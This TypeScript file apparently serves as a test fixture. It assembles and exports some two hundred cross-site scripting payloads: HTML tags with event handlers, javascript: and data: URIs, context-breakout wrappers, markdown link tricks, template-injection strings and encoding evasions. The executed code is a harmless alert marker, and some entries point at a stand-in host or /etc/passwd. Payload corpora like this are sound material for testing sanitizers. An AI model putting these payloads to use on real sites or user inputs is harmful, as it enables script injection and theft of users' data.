/** Texts that have run as code in one browser or renderer or another, in some two hundred forms. */
const ACTION = "window.pwned=1;alert(1)";

const TAGS = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `<img src=x onerror="${code}">`,
  (code: string) => `<svg onload="${code}"></svg>`,
  (code: string) => `<svg><script>${code}</script></svg>`,
  (code: string) => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  (code: string) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code: string) => `<iframe src="javascript:${code}"></iframe>`,
  (code: string) => `<object data="javascript:${code}"></object>`,
  (code: string) => `<embed src="javascript:${code}">`,
  (code: string) => `<body onload="${code}">`,
  (code: string) => `<details open ontoggle="${code}"><summary>x</summary></details>`,
  (code: string) => `<video><source onerror="${code}"></video>`,
  (code: string) => `<audio src=x onerror="${code}"></audio>`,
  (code: string) => `<input autofocus onfocus="${code}">`,
  (code: string) => `<form action="javascript:${code}"><button>x</button></form>`,
  (code: string) => `<math><maction xlink:href="javascript:${code}">x</maction></math>`,
  (code: string) => `<a href="javascript:${code}">x</a>`,
  (code: string) => `<base href="javascript:${code}//">`,
  (code: string) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  (code: string) => `<link rel=stylesheet href="javascript:${code}">`,
  (code: string) => `<style>@import "javascript:${code}";</style>`,
  (code: string) => `<template><img src=x onerror="${code}"></template>`,
  (code: string) => `<noscript><p title="</noscript><img src=x onerror='${code}'>">`,
  (code: string) => `<marquee onstart="${code}">x</marquee>`,
  (code: string) => `<xmp><img src=x onerror="${code}"></xmp>`,
] as const;

/** How a text may break out of where it was put. */
const WRAPS = [
  (text: string) => text,
  (text: string) => `"'>${text}`,
  (text: string) => `</title></textarea></style></script>${text}`,
  (text: string) => `--><!--${text}`,
  (text: string) => `]]>${text}`,
  (text: string) => `{{constructor.constructor('${ACTION}')()}}${text}`,
  (text: string) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
] as const;

const MARKDOWN = [
  `[x](javascript:${ACTION})`,
  `[x](JaVaScRiPt:${ACTION})`,
  `[x](java\tscript:${ACTION})`,
  `[x](\u0001javascript:${ACTION})`,
  `[x](data:text/html,<script>${ACTION}</script>)`,
  `[x](vbscript:${ACTION})`,
  `[x](file:///etc/passwd)`,
  `![x](javascript:${ACTION})`,
  `![x](http://evil.test/pixel.png)`,
  `![x" onerror="${ACTION}](x)`,
  `[x]("onmouseover="${ACTION})`,
  `<javascript:${ACTION}>`,
  `<http://evil.test/" onclick="${ACTION}>`,
  `[x]: javascript:${ACTION}\n\n[x]`,
  `\`\`\`<script>${ACTION}</script>\`\`\``,
  `| <img src=x onerror=${ACTION}> |\n|---|\n| <svg onload=${ACTION}> |`,
  `# <img src=x onerror=${ACTION}>`,
  `> <script>${ACTION}</script>`,
  `- <img src=x onerror=${ACTION}>`,
  `**<script>${ACTION}</script>**`,
  `http://evil.test/<script>${ACTION}</script>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${ACTION}//'>`,
];

const OTHERS = [
  `\u202e${ACTION}`,
  `\u001b]8;;javascript:${ACTION}\u0007x\u001b]8;;\u0007`,
  `%3Cscript%3E${ACTION}%3C/script%3E`,
  `\\u003cscript\\u003e${ACTION}\\u003c/script\\u003e`,
  `＜script＞${ACTION}＜/script＞`,
  `__proto__`,
  `constructor`,
  `\${${ACTION}}`,
  `#{${ACTION}}`,
  `<%= ${ACTION} %>`,
];

export const PAYLOADS: readonly string[] = [
  ...TAGS.flatMap((tag) => WRAPS.map((wrap) => wrap(tag(ACTION)))),
  ...MARKDOWN,
  ...OTHERS,
];
